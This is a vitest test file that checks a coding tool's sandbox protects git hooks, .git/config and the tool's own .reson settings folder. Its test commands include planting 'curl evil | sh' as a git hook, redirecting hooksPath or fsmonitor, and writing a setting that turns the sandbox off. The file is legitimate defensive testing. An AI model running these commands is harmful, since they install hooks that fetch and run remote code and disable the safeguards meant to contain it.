// Protected paths under the real sandbox: existing ones are read-only (and cannot be moved
// away), missing ones that a command creates are removed afterwards with a warning, and the
// sandbox leaves nothing of its own in the workspace.
import { existsSync } from "node:fs";
import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Fixture, makeFixture, noSandbox } from "./fixture.js";

let fx: Fixture;

beforeEach(async () => {
  fx = await makeFixture();
});
afterEach(() => fx?.cleanup());

async function tree(dir: string, prefix = ""): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = `${prefix}${entry.name}`;
    out.push(entry.isDirectory() ? `${path}/` : path);
    if (entry.isDirectory()) out.push(...(await tree(join(dir, entry.name), `${path}/`)));
  }
  return out.sort();
}

const REPO = {
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/config": "[core]\n\trepositoryformatversion = 0\n",
  ".git/hooks/pre-commit.sample": "#!/bin/sh\n",
};

describe.skipIf(noSandbox)("git hooks and config", () => {
  it("refuses to plant a hook in an existing .git/hooks", async () => {
    await fx.write(REPO);
    const result = await fx.run(
      "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    );
    expect(result.sandboxDenial).toBe(
      "blocked by sandbox: .git/hooks/pre-commit is protected (read-only for commands)",
    );
    expect(existsSync(join(fx.root, ".git/hooks/pre-commit"))).toBe(false);
  });

  it("removes a .git/hooks the command created where there was none, and warns", async () => {
    await fx.write({ ".git/HEAD": "ref: refs/heads/main\n" });
    const result = await fx.run("mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/post-checkout");
    expect(result.exitCode).toBe(0);
    expect(result.warnings).toEqual([
      "removed .git/hooks: the command created it, but .git/hooks is protected",
    ]);
    expect(existsSync(join(fx.root, ".git/hooks"))).toBe(false);
  });

  it("cannot move .git away to replace its hooks", async () => {
    await fx.write(REPO);
    const result = await fx.run(
      "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
    );
    expect(result.exitCode).not.toBe(0);
    expect(result.output).toContain("Device or resource busy");
    expect(result.sandboxDenial).toBe(
      "blocked by sandbox: .git holds protected paths and cannot be moved or replaced",
    );
    expect(await tree(join(fx.root, ".git"))).toEqual([
      "HEAD",
      "config",
      "hooks/",
      "hooks/pre-commit.sample",
    ]);
  });

  it("refuses to change .git/config, by hand or through git", async () => {
    await fx.write(REPO);
    const byHand = await fx.run("printf '[core]\\n\\thooksPath = /tmp/evil\\n' >> .git/config");
    expect(byHand.sandboxDenial).toBe(
      "blocked by sandbox: .git/config is protected (read-only for commands)",
    );
    const byGit = await fx.run("git config core.fsmonitor 'touch /tmp/x'");
    expect(byGit.exitCode).not.toBe(0);
    expect(await readFile(join(fx.root, ".git/config"), "utf8")).toBe(REPO[".git/config"]);
  });

  it("removes a .git/config the command created, and warns", async () => {
    await fx.write({ ".git/HEAD": "ref: refs/heads/main\n" });
    const result = await fx.run("printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config");
    expect(result.warnings).toEqual([
      "removed .git/config: the command created it, but .git/config is protected",
    ]);
    expect(existsSync(join(fx.root, ".git/config"))).toBe(false);
  });

  it("lets a command create a repository from scratch (git init), hooks included", async () => {
    const result = await fx.run(
      "git init -q && git -c user.name=t -c user.email=t@t commit -q --allow-empty -m one && git log --oneline | wc -l",
    );
    expect(result).toMatchObject({ exitCode: 0, output: "1\n" });
    expect(result.warnings).toBeUndefined();
    // From now on the new repository's hooks are protected like any other.
    const plant = await fx.run("echo evil > .git/hooks/pre-commit");
    expect(plant.sandboxDenial).toBe(
      "blocked by sandbox: .git/hooks/pre-commit is protected (read-only for commands)",
    );
  });
});

describe.skipIf(noSandbox)("reson's own folder", () => {
  it("refuses writes into an existing .reson", async () => {
    await fx.write({ ".reson/settings.json": "{}\n" });
    const result = await fx.run(`echo '{"sandbox":"off"}' > .reson/settings.json`);
    expect(result.sandboxDenial).toBe(
      "blocked by sandbox: .reson/settings.json is protected (read-only for commands)",
    );
    expect(await readFile(join(fx.root, ".reson/settings.json"), "utf8")).toBe("{}\n");
  });

  it("removes a .reson the command created", async () => {
    const result = await fx.run(`mkdir .reson && echo '{"sandbox":"off"}' > .reson/settings.json`);
    expect(result.warnings).toEqual(["removed .reson: the command created it, but .reson is protected"]);
    expect(existsSync(join(fx.root, ".reson"))).toBe(false);
  });
});

describe.skipIf(noSandbox)("placeholders", () => {
  it("leaves the workspace exactly as the command left it: no mount points, no stray files", async () => {
    await fx.write({ ".git/HEAD": "ref: refs/heads/main\n", "src/a.txt": "a\n" });
    const before = await tree(fx.root);
    const result = await fx.run("true");
    expect(result).toMatchObject({ exitCode: 0, sandboxed: true });
    expect(await tree(fx.root)).toEqual(before);
  });
});
